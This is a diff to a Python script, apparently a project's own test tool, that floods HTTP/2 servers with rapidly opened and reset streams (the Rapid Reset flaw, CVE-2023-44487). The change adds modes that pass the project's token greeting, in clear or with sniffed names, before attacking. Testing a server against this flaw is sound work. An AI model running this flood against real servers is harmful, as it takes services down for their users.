@@ -3,10 +3,11 @@
 # SPDX-FileCopyrightText: The hlaunch authors
 """An attacker of HTTP/2 servers: opens and resets streams as fast as it can (CVE-2023-44487).
 
-    rapid_reset.py HOST PORT SECONDS clear|NAME|token
+    rapid_reset.py HOST PORT SECONDS clear|NAME|token|greets|greets:NAME
 
 In clear, or over TLS without a certificate, where NAME is what it asks for; or as a holder of the
-token in HLAUNCH_TOKEN. Connects anew where it is closed. Prints how many connections it made and how
+token in HLAUNCH_TOKEN. With `greets` in clear after the greeting of --tls off, as a holder of the
+token, or as one who has only read on the wire what to ask for. Connects anew where it is closed. Prints how many connections it made and how
 many streams it opened and reset.
 """
 
@@ -74,26 +75,50 @@ def show_certificate(context, token, name):
         context.load_cert_chain(at / "leaf", at / "key")
 
 
-def tls(name):
-    """What to ask for, and with what; None in clear."""
+def server_name(token):
+    return derive(token, b"server name", 16).hex() + ".hlaunch"
+
+
+def greet(connection, name, key):
+    """As rendezvous/trust/token_greeting.h has it."""
+    hello = b"hlaunch\x01" + name.encode() + os.urandom(16) + b"\0\0"
+    connection.sendall(hello)
+    answer = connection.recv(8 + 16 + 32, socket.MSG_WAITALL)
+    connection.sendall(b"hlaunch\x03" + hmac.digest(key, b"client" + hello + answer, hashlib.sha256))
+
+
+def secured_by(name):
+    """What makes a connection one that is let in, or is to look so."""
     if name == "clear":
-        return None
+        return lambda connection: connection
+    if not name.startswith("greets"):
+        asked, context = tls(name)
+        return lambda connection: context.wrap_socket(connection, server_hostname=asked)
+    asked, key = name.partition(":")[2], os.urandom(32)
+    if not asked:
+        token = os.environ["HLAUNCH_TOKEN"]
+        asked, key = server_name(token), derive(token, b"greeting in clear", 32)
+
+    def greeted(connection):
+        greet(connection, asked, key)
+        return connection
+    return greeted
+
+
+def tls(name):
+    """What to ask for, and with what."""
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols(["h2"])
     if name == "token":
         token = os.environ["HLAUNCH_TOKEN"]
-        name = derive(token, b"server name", 16).hex() + ".hlaunch"
+        name = server_name(token)
         show_certificate(context, token, name)
     return name, context
 
 
 def connect(host, port, secured):
-    connection = socket.create_connection((host, port), timeout=5)
-    if secured is None:
-        return connection
-    name, context = secured
-    return context.wrap_socket(connection, server_hostname=name)
+    return secured(socket.create_connection((host, port), timeout=5))
 
 
 def attack(host, port, secured, until, counts):
@@ -114,7 +139,7 @@ def attack(host, port, secured, until, counts):
 def main():
     host, port, seconds, name = sys.argv[1:]
     until = time.monotonic() + float(seconds)
-    secured = tls(name)
+    secured = secured_by(name)
     counts = {"connections": 0, "streams": 0, "refused": 0}
     threads = [threading.Thread(target=attack, args=(host, int(port), secured, until, counts))
                for _ in range(CONNECTIONS)]
